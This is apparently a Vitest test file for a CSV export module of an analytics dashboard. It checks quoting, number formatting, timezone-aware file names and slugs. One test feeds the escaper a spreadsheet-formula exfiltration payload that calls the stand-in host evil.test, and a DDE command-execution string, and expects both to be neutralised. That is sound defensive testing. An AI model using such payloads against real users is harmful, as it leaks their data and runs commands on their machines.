import { describe, expect, it } from 'vitest';
import { csvField, csvFileName, slug, toCsv } from './csv';

describe('toCsv', () => {
  it('writes a header row and the rows, CRLF line ends (RFC 4180)', () => {
    expect(
      toCsv({
        header: ['country', 'users', 'share'],
        rows: [
          ['Germany', 3, 0.75],
          ['Unknown', 1, 0.25],
        ],
      }),
    ).toBe('country,users,share\r\nGermany,3,0.75\r\nUnknown,1,0.25\r\n');
  });

  it('quotes fields with a comma, a quote or a line break, doubling quotes', () => {
    expect(csvField('launch, v2')).toBe('"launch, v2"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField('plain text; fine')).toBe('plain text; fine');
    expect(toCsv({ header: ['a,b'], rows: [['x"y']] })).toBe('"a,b"\r\n"x""y"\r\n');
  });

  it('neutralises texts a spreadsheet would run as formulas with a leading apostrophe (OWASP)', () => {
    expect(csvField('=HYPERLINK("http://evil.test/?leak="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`,
    );
    expect(csvField("=cmd|'/C calc'!A0")).toBe("'=cmd|'/C calc'!A0");
    expect(csvField('+1+1')).toBe("'+1+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField('a=1')).toBe('a=1');
    expect(toCsv({ header: ['source'], rows: [['=1+1']] })).toBe("source\r\n'=1+1\r\n");
  });

  it('writes numbers unformatted and empty fields for null', () => {
    expect(csvField(12345)).toBe('12345');
    expect(csvField(0.027)).toBe('0.027');
    expect(csvField(-3)).toBe('-3');
    expect(csvField(12.5e9)).toBe('12500000000');
    expect(csvField(1e21)).toBe('1000000000000000000000');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(true)).toBe('true');
  });
});

describe('csvFileName', () => {
  it('names project, screen, table and the days of the period (the last included)', () => {
    const scope = {
      project: 'Demo DEX',
      screen: 'analytics',
      from: '2026-10-26T00:00:00.000Z',
      to: '2026-11-25T00:00:00.000Z',
    };
    expect(csvFileName(scope, 'Countries')).toBe('demo-dex_analytics_countries_2026-10-26_2026-11-24.csv');
    expect(csvFileName({ ...scope, from: '2026-11-24T00:00:00.000Z' }, 'Attributions by campaign')).toBe(
      'demo-dex_analytics_attributions-by-campaign_2026-11-24_2026-11-24.csv',
    );
    // A range ending mid-day ends that day.
    expect(csvFileName({ ...scope, to: '2026-11-24T14:05:00.000Z' }, 'Overview')).toMatch(
      /_2026-10-26_2026-11-24\.csv$/,
    );
  });

  it("names the project's local days, whatever the zone's offset", () => {
    // 04:20 UTC on 2 December: still 1 December in New York, already 2 December in Kolkata.
    const newYorkToday = {
      project: 'P',
      screen: 'analytics',
      from: '2026-12-01T05:00:00.000Z',
      to: '2026-12-02T04:20:00.000Z',
    };
    expect(csvFileName(newYorkToday, 'Overview', 'America/New_York')).toBe(
      'p_analytics_overview_2026-12-01_2026-12-01.csv',
    );
    const newYorkMonth = { ...newYorkToday, from: '2026-11-02T05:00:00.000Z' };
    expect(csvFileName(newYorkMonth, 'Overview', 'America/New_York')).toMatch(/_2026-11-02_2026-12-01\.csv$/);
    const kolkataMonth = { ...newYorkToday, from: '2026-11-02T18:30:00.000Z' };
    expect(csvFileName(kolkataMonth, 'Overview', 'Asia/Kolkata')).toMatch(/_2026-11-03_2026-12-02\.csv$/);
    // A period ending at the zone's midnight ends the day before.
    const kolkataWeek = { ...newYorkToday, from: '2026-11-23T18:30:00.000Z', to: '2026-11-30T18:30:00.000Z' };
    expect(csvFileName(kolkataWeek, 'Overview', 'Asia/Kolkata')).toMatch(/_2026-11-24_2026-11-30\.csv$/);
  });

  it('keeps names safe for every file system', () => {
    expect(slug('Café «Zürich» / DEX #1')).toBe('cafe-zurich-dex-1');
    expect(slug('///')).toBe('project');
  });
});
